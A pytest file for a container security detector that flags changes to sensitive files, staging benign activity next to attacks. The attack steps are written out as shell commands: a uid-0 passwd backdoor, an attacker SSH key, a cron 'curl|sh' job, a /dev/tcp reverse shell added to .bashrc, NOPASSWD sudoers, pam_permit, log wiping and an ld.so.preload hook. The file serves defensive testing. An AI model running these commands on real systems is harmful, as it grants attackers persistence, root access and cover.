"""detectors/sensitive_files.py: the three */SensitiveFileModified types, staged for real in the emulated task with
the real sidecar (its file source feeding the detector engine), next to the benign look-alikes: reading these
files, ssh writing known_hosts, a shell appending to its history, an application appending to and rotating its
own log, logrotate rotating one. Rotation rules and the guessed-writer shape are also checked on events around a
real process record, where staging cannot control who the file source names.
"""

from __future__ import annotations

import dataclasses
import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from findings import container_of, context_of
from taskenv import TaskEnv

from collectors.events import ContainerRef, ProcessInfo, RuntimeEvent
from collectors.process import ProcessCollector
from collectors.process_table import ProcessTable
from detectors import sensitive_files as sf
from detectors.base import DetectorContext
from detectors.build import FindingScope
from detectors.engine import DetectorEngine
from detectors.finding import Finding

pytestmark = pytest.mark.timeout(150)

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0wVHhW attacker@c2"
PY = "/usr/bin/python3"
TYPES = {sf.PERSISTENCE, sf.PRIVILEGE_ESCALATION, sf.DEFENSE_EVASION}


def ok(task: TaskEnv, container: str, script: str) -> None:
    rc, out = task.run(container, ["sh", "-c", script])
    assert rc == 0, (script, rc, out)


def about(t: str, path: str, op: str | None = None) -> Any:
    return lambda f: (
        f["type"] == t and context_of(f).get("filePath") == path and op in (None, context_of(f)["fileOperation"])
    )


def valid(f: dict[str, Any]) -> dict[str, Any]:
    Finding.model_validate(f)
    return f


def test_persistence_and_privilege_files_vs_reading_them(task_env: TaskEnv, tmp_path: Path) -> None:
    sidecar = task_env.start_detecting(tmp_path)
    # benign: reading every one of them, ssh's known_hosts, in "worker"
    ok(task_env, "worker", "cat /etc/passwd /etc/shadow /etc/group >/dev/null; ls -la /etc/pam.d /root >/dev/null")
    ok(task_env, "worker", "mkdir -m 700 /root/.ssh && echo 'host ssh-ed25519 AAAA' > /root/.ssh/known_hosts")
    # the shell holds passwd open while it writes: the source names it (not a guess)
    script = "exec 3>>/etc/passwd; echo 'backdoor:x:0:0::/root:/bin/sh' >&3; sleep 1"
    ok(task_env, "app", script)
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/passwd"), timeout=20))
    assert f["severity"] == 5.0 and container_of(f) == "app"
    c = context_of(f)
    assert c["fileOperation"] == "write" and c["category"] == "passwd"
    assert c["modifyingProcess"]["commandLine"] == f"sh -c {script}"
    assert f["service"]["runtimeDetails"]["process"]["commandLine"] == f"sh -c {script}"

    ok(task_env, "app", f"mkdir -m 700 /root/.ssh && echo '{KEY}' > /root/.ssh/authorized_keys")
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/root/.ssh/authorized_keys"), timeout=15))
    assert context_of(f)["category"] == "ssh_keys" and container_of(f) == "app"
    ok(task_env, "app", "mkdir -p /etc/cron.d && echo '* * * * * root curl -s x|sh' > /etc/cron.d/job")
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/cron.d/job"), timeout=15))
    assert context_of(f)["category"] == "cron"
    ok(task_env, "app", "sed -i 's/^root:[^:]*:/root:$6$evil:/' /etc/shadow")
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/shadow", "rename"), timeout=15))
    assert context_of(f)["newPath"] == "/etc/shadow" and context_of(f)["category"] == "shadow"

    ok(task_env, "app", "mkdir -p /etc/sudoers.d && echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/app")
    f = valid(sidecar.wait_for_finding(about(sf.PRIVILEGE_ESCALATION, "/etc/sudoers.d/app"), timeout=15))
    assert f["severity"] == 5.0 and context_of(f)["category"] == "sudoers" and container_of(f) == "app"
    ok(task_env, "app", "mkdir -p /etc/pam.d && echo 'auth sufficient pam_permit.so' >> /etc/pam.d/common-auth")
    f = valid(sidecar.wait_for_finding(about(sf.PRIVILEGE_ESCALATION, "/etc/pam.d/common-auth"), timeout=15))
    assert context_of(f)["category"] == "pam"

    time.sleep(2)
    findings = sidecar.findings()
    assert not [f for f in findings if f["type"] in TYPES and container_of(f) == "worker"], [
        context_of(f) for f in findings if container_of(f) == "worker"
    ]
    # one finding per file, however many writes and operations (here each account file had its own writer)
    keys = [(f["type"], context_of(f)["filePath"]) for f in findings if f["type"] in TYPES]
    assert len({f["id"] for f in findings if f["type"] in TYPES}) == len(set(keys)), [
        (
            f["id"][:6],
            f["createdAt"][11:23],
            f["service"]["count"],
            context_of(f).get("filePath"),
            context_of(f).get("fileOperation"),
            context_of(f).get("modifyingProcessGuessed"),
            (context_of(f).get("modifyingProcess") or {}).get("executablePath"),
        )
        for f in findings
        if f["type"] in TYPES
    ]
    assert sidecar.stop() == 0


def test_log_history_and_loader_tampering_vs_appends_and_rotation(task_env: TaskEnv, tmp_path: Path) -> None:
    sidecar = task_env.start_detecting(tmp_path)
    # benign, in "worker": a shell's history appended to, a log created and appended to, an application rotating
    # its own log (app.log -> app.log.1, the oldest copy deleted), logrotate-style rotation by logrotate
    ok(task_env, "worker", "echo 'ls -la' >> /root/.bash_history")
    ok(task_env, "worker", "seq 1 2000 > /var/log/app.log; for i in 1 2 3; do echo line >> /var/log/app.log; done")
    ok(task_env, "worker", "echo old > /var/log/app.log.2 && sleep 1.2 && rm /var/log/app.log.2")
    ok(task_env, "worker", "mv /var/log/app.log /var/log/app.log.1 && echo new > /var/log/app.log")
    # the attacks, in "app"
    ok(task_env, "app", "seq 1 5000 > /var/log/auth.log; echo x > /var/log/syslog; echo 'id' >> /root/.bash_history")
    time.sleep(1.5)
    ok(task_env, "app", "truncate -s 0 /var/log/auth.log; sleep 1")
    f = valid(sidecar.wait_for_finding(about(sf.DEFENSE_EVASION, "/var/log/auth.log", "write"), timeout=20))
    assert f["severity"] == 5.0 and container_of(f) == "app"
    assert context_of(f)["truncated"] is True and context_of(f)["category"] == "log"
    ok(task_env, "app", "rm /var/log/syslog")
    f = valid(sidecar.wait_for_finding(about(sf.DEFENSE_EVASION, "/var/log/syslog", "delete"), timeout=15))
    ok(task_env, "app", "ln -sf /dev/null /root/.bash_history")
    f = valid(
        sidecar.wait_for_finding(
            lambda f: (
                f["type"] == sf.DEFENSE_EVASION and context_of(f).get("shellHistoryFilePath") == "/root/.bash_history"
            ),
            timeout=15,
        )
    )
    assert (
        context_of(f)["fileOperation"] in ("delete", "link", "rename") and context_of(f)["category"] == "shell_history"
    )
    ok(task_env, "app", "echo /dev/shm/libhook.so > /etc/ld.so.preload")
    f = valid(sidecar.wait_for_finding(about(sf.DEFENSE_EVASION, "/etc/ld.so.preload"), timeout=15))
    assert context_of(f)["category"] == "ld_preload"

    time.sleep(2)
    findings = sidecar.findings()
    assert not [f for f in findings if f["type"] in TYPES and container_of(f) == "worker"], [
        context_of(f) for f in findings if container_of(f) == "worker"
    ]
    # appending to history in "app" (before the link) was not a finding either
    history = [
        context_of(f)["fileOperation"] for f in findings if context_of(f).get("filePath") == "/root/.bash_history"
    ]
    assert "write" not in history and "create" not in history
    # the look-alikes reached the detector: the source did report the rotation
    events = sidecar.events()
    worker_logs = [e for e in events if e["kind"] == "file.modify" and e.get("containerName") == "worker"]
    assert {e["filePath"] for e in worker_logs} >= {"/var/log/app.log.1", "/var/log/app.log.2"}, worker_logs
    assert sidecar.stop() == 0


# -- rules that staging cannot pin down: who the source names ---------------------------------------------------------


@pytest.fixture
def process() -> Iterator[ProcessInfo]:
    child = subprocess.Popen(["sleep", "30"])
    try:
        deadline = time.monotonic() + 10
        while True:
            info = ProcessCollector(lambda e: None, hash_executables=False).capture(child.pid)
            if info is not None and info.name == "sleep":
                break
            assert time.monotonic() < deadline, "sleep never captured"
            time.sleep(0.01)
        yield dataclasses.replace(info, container=ContainerRef("app", "c1"), _json=None)
    finally:
        child.kill()
        child.wait()


def run(events: list[RuntimeEvent]) -> list[dict[str, Any]]:
    findings: list[dict[str, Any]] = []
    engine = DetectorEngine(
        DetectorContext(ProcessTable(), self_pids=frozenset()),
        FindingScope(),
        findings.append,
        detectors=list(sf.DETECTORS),
    )
    for e in events:
        engine.on_event(e)
    engine.flush(force=True)  # account file changes are held back to be gathered into one finding
    for f in findings:
        Finding.model_validate(f)
    return findings


def event(p: ProcessInfo | None, **data: Any) -> RuntimeEvent:
    base = {"containerName": "app", "containerId": "c1", "modifyingProcessGuessed": False, "count": 1}
    return RuntimeEvent("file.modify", p, data={**base, **data})


def test_logrotate_and_app_rotation_are_not_tampering(process: ProcessInfo) -> None:
    logrotate = dataclasses.replace(process, name="logrotate", executable_path="/usr/sbin/logrotate", _json=None)
    fake = dataclasses.replace(process, name="logrotate", executable_path="/tmp/logrotate", _json=None)
    log = {"category": "log", "filePath": "/var/log/auth.log"}
    assert run([event(logrotate, **log, fileOperation="write", truncated=True)]) == []  # copytruncate
    assert run([event(logrotate, **log, fileOperation="delete")]) == []
    assert len(run([event(fake, **log, fileOperation="delete")])) == 1  # a payload named logrotate
    shift = {"category": "log", "fileOperation": "rename"}
    assert run([event(process, **shift, filePath="/var/log/a.log.2", oldPath="/var/log/a.log.1",
                      newPath="/var/log/a.log.2")]) == []  # fmt: skip
    assert run([event(process, **shift, filePath="/var/log/a.log-20250101", oldPath="/var/log/a.log",
                      newPath="/var/log/a.log-20250101")]) == []  # fmt: skip
    moved = run([event(process, **shift, filePath="/var/log/a.log", oldPath="/var/log/a.log", newPath="/tmp/x")])
    assert [context_of(f)["newPath"] for f in moved] == ["/tmp/x"]
    # a log's chmod and an append are not tampering
    assert run([event(process, **log, fileOperation="attribute")]) == []
    assert run([event(process, **log, fileOperation="write", truncated=False)]) == []


def test_a_guessed_writer_is_not_named_as_the_modifying_process(process: ProcessInfo) -> None:
    (f,) = run([event(process, category="passwd", filePath="/etc/group", fileOperation="write",
                      modifyingProcessGuessed=True)])  # fmt: skip
    assert f["type"] == sf.PERSISTENCE
    assert "process" not in f["service"]["runtimeDetails"]
    c = context_of(f)
    assert "modifyingProcess" not in c and c["modifyingProcessGuessed"] is True
    assert c["suspectedProcess"]["pid"] == process.pid
    assert container_of(f) == "app"
    (f,) = run([event(process, category="passwd", filePath="/etc/group", fileOperation="write")])
    assert context_of(f)["modifyingProcess"]["pid"] == process.pid
    assert f["service"]["runtimeDetails"]["process"]["pid"] == process.pid


def test_every_category_has_its_type() -> None:
    # the categories the file source emits, from its own table: none is silently unmapped
    from collectors import files

    categories = {rule.category for _, rule in files.WATCHED if rule.category} | set(files.ETC_NAMES.values())
    categories |= {c for _, rule in files.WATCHED for c in rule.names.values()}
    categories |= {c for _, rule in files.WATCHED for _, c in rule.prefixes}
    handled_elsewhere = {"binary_dir", "docker_socket", "release_agent"}
    assert categories - handled_elsewhere == set(sf.TYPE_OF_CATEGORY), categories


def test_shell_profiles_new_cron_dirs_and_accounts_vs_service_users(task_env: TaskEnv, tmp_path: Path) -> None:
    # slim images: no /var/spool at all when the sidecar starts, in either container
    for c in ("app", "worker"):
        ok(task_env, c, "rm -rf /var/spool /etc/profile.d; test ! -e /var/spool")
    sidecar = task_env.start_detecting(tmp_path)
    # benign, in "worker": profiles read and sourced by a login shell, service users and groups made the way
    # entry points make them, an unrelated spool directory appearing
    ok(task_env, "worker", "cat /etc/profile /etc/bash.bashrc >/dev/null 2>&1; bash -lc 'true'; bash -ic 'true'")
    ok(task_env, "worker", "useradd -r -M -s /usr/sbin/nologin svc && groupadd --system svcgrp")
    ok(task_env, "worker", "useradd --system --no-create-home appuser && grep -q '^appuser:' /etc/passwd")
    # a service user with a home: useradd -m copies /etc/skel's .bashrc/.profile into it
    ok(task_env, "worker", "useradd -r -m -s /usr/sbin/nologin svchome && test -f /home/svchome/.profile")
    ok(task_env, "worker", "mkdir -p /var/spool/mail/x && echo hi > /var/spool/mail/x/m")
    # the attacks, in "app"
    bashrc = "echo 'nohup bash -c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\" &' >> ~/.bashrc"
    ok(task_env, "app", bashrc)
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/root/.bashrc"), timeout=20))
    assert f["severity"] == 5.0 and container_of(f) == "app"
    assert context_of(f)["category"] == "shell_profile" and context_of(f)["fileOperation"] in ("create", "write")
    ok(task_env, "app", "mkdir -p /etc/profile.d && echo '/tmp/.x &' > /etc/profile.d/sys.sh")
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/profile.d/sys.sh"), timeout=15))
    assert context_of(f)["category"] == "shell_profile" and container_of(f) == "app"
    cron = (
        "import os; os.makedirs('/var/spool/cron/crontabs', exist_ok=True); "
        "open('/var/spool/cron/crontabs/root','a').write('@reboot /tmp/.x\\n')"
    )
    ok(task_env, "app", f'{PY} -c "{cron}"')
    f = valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/var/spool/cron/crontabs/root"), timeout=15))
    assert context_of(f)["category"] == "cron" and container_of(f) == "app"
    # a root account: one finding for the four files useradd rewrites
    ok(task_env, "app", "useradd -o -u 0 -M -s /bin/sh toor")
    f = valid(sidecar.wait_for_finding(lambda f: f["type"] == sf.PERSISTENCE and "/etc/shadow" in accounts(f), 20))
    assert container_of(f) == "app" and f["severity"] == 5.0
    assert set(accounts(f)) == {"/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow"}, context_of(f)
    assert context_of(f)["category"] in ("passwd", "shadow")
    # a file created, written and chmodded: one finding
    ok(
        task_env,
        "app",
        "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/.x' > /etc/cron.d/x && sleep 1.2 && chmod 644 /etc/cron.d/x",
    )
    valid(sidecar.wait_for_finding(about(sf.PERSISTENCE, "/etc/cron.d/x"), timeout=15))

    time.sleep(3)
    assert sidecar.stop() == 0
    findings = sidecar.findings()
    worker = [context_of(f) for f in findings if f["type"] in TYPES and container_of(f) == "worker"]
    assert not worker, worker
    app = [f for f in findings if f["type"] in TYPES and container_of(f) == "app"]
    by_file: dict[str, set[str]] = {}
    for f in app:
        by_file.setdefault(context_of(f)["filePath"], set()).add(f["id"])
    assert len(by_file["/etc/cron.d/x"]) == 1, by_file
    last = [f for f in app if context_of(f)["filePath"] == "/etc/cron.d/x"][-1]
    assert last["service"]["count"] >= 2  # the chmod counted on the same finding (emitted at stop)
    # the spool directory made on the way is not a crontab
    assert "/var/spool/cron/crontabs" not in by_file, by_file
    account_ids = {
        f["id"]
        for f in app
        if context_of(f)["filePath"] in ("/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow")
    }
    assert len(account_ids) == 1, [context_of(f) for f in app]
    # the sidecar saw the worker's account changes and spool directory: they reached the detector
    events = sidecar.events()
    seen = {e["filePath"] for e in events if e["kind"] == "file.modify" and e.get("containerName") == "worker"}
    assert "/etc/passwd" in seen, seen


def accounts(f: dict[str, Any]) -> list[str]:
    c = context_of(f)
    return [c.get("filePath"), *(c.get("filePaths") or [])]


def test_which_account_tools_make_a_service_user(process: ProcessInfo) -> None:
    def tool(exe: str, cmd: str) -> ProcessInfo:
        name = os.path.basename(cmd.split(maxsplit=1)[0])
        return dataclasses.replace(process, name=name, executable_path=exe, command_line=cmd, _json=None)

    service = [
        tool("/usr/sbin/useradd", "useradd -r -M -s /usr/sbin/nologin app"),
        tool("/usr/sbin/useradd", "/usr/sbin/useradd -rm app"),
        tool("/usr/sbin/useradd", "useradd --system --uid 999 app"),
        tool("/usr/sbin/groupadd", "groupadd --system app"),
        tool("/usr/bin/perl", "/usr/bin/perl /usr/sbin/adduser --system --group app"),
        tool("/bin/busybox", "adduser -S -D -H app"),
        tool("/bin/busybox", "addgroup -S app"),
    ]
    for p in service:
        assert sf.creates_system_account(p), p.command_line
    not_service = [
        tool("/usr/sbin/useradd", "useradd -m bob"),  # a login account
        tool("/usr/sbin/useradd", "useradd -r -o -u 0 toor"),  # a second root
        tool("/usr/sbin/useradd", "useradd -r -u0 toor"),
        tool("/usr/sbin/useradd", "useradd --system --uid=0 toor"),
        tool("/usr/sbin/useradd", "useradd -r -G sudo,users app"),
        tool("/usr/sbin/useradd", "useradd -r -g 0 app"),
        tool("/usr/sbin/usermod", "usermod -aG wheel app"),
        tool("/tmp/useradd", "useradd -r app"),  # a payload named like the tool
        tool("/bin/busybox", "sh -c useradd -r app"),
        tool("/usr/bin/python3", "python3 -c useradd -r"),
    ]
    for p in not_service:
        assert not sf.creates_system_account(p), p.command_line
    assert not sf.creates_system_account(None)
    # through the detector: the service user's account writes are silent, a root account's one finding
    files = ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow")
    writes = [
        event(service[0], category="passwd", filePath=f, fileOperation=op) for f in files for op in ("write", "rename")
    ]
    assert run(writes) == []
    evil = not_service[1]
    found = run(
        [event(evil, category="passwd", filePath=f, fileOperation=op) for f in files for op in ("write", "rename")]
    )
    assert len({f["id"] for f in found}) == 1, [context_of(f) for f in found]
    c = context_of(found[-1])
    assert c["filePath"] == "/etc/passwd" and c["filePaths"] == ["/etc/shadow", "/etc/group", "/etc/gshadow"]
    assert found[-1]["service"]["count"] == 8
    # repeats of other operations on one file: one finding, counted
    cron = [
        event(process, category="cron", filePath="/etc/cron.d/x", fileOperation=op)
        for op in ("create", "write", "attribute")
    ]
    found = run(cron)
    assert len({f["id"] for f in found}) == 1 and found[-1]["service"]["count"] == 3
    assert run([event(process, category="cron", filePath="/var/spool/cron/crontabs", fileOperation="create")]) == []
    (f,) = run([event(process, category="shell_profile", filePath="/etc/profile.d/sys.sh", fileOperation="create")])
    assert f["type"] == sf.PERSISTENCE and context_of(f)["category"] == "shell_profile"
